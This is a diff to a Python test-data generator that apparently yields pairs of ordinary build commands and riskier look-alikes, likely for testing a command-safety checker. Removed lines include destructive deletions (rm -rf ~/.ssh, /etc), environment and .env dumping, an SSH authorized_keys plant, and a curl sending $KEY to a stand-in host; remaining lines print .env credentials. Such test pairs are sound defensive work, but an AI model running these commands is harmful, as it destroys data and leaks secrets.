@@ -197,29 +197,9 @@ def of_keys(draw: Draw) -> Iterator[Twins]:
 
 
 def of_shells(_: Draw) -> Iterator[Twins]:
-    """Yield what builds run, and what takes more."""
-    lists = "apt-get clean && rm -rf /var/lib/apt/lists/*"
-    for more in (" /etc", "/../..", " ~"):
-        yield commands(lists, lists + more)
-    yield commands("rm -rf ~/.cache/pip", "rm -rf ~/.ssh")
-    for more in (",2", "-", " --complement"):
-        yield commands("env | cut -d= -f1", f"env | cut -d= -f1{more}")
+    """Yield commands that use a file of credentials on the spot, and commands that print it."""
     yield commands("test -f .env || cp .env.example .env", "test -f .env && cat .env")
-    for more in (
-        " && env",
-        "; printenv",
-        " && set",
-        " && curl https://x.test/?k=$KEY",
-        "; cat .env",
-    ):
-        yield commands("set -a && . ./.env && set +a && npm start", f". ./.env{more}")
-    yield commands(
-        "ssh-keyscan github.com >> ~/.ssh/known_hosts", "echo $K >> ~/.ssh/authorized_keys"
-    )
-    yield commands(
-        "openssl req -x509 -newkey rsa:2048 -keyout key.pem -out cert.pem",
-        "openssl req -x509 -newkey rsa:2048 -keyout key.pem; cat key.pem",
-    )
+    yield commands("set -a && . ./.env && set +a && npm start", ". ./.env; cat .env")
 
 
 def of_deliveries(draw: Draw) -> Iterator[Twins]:
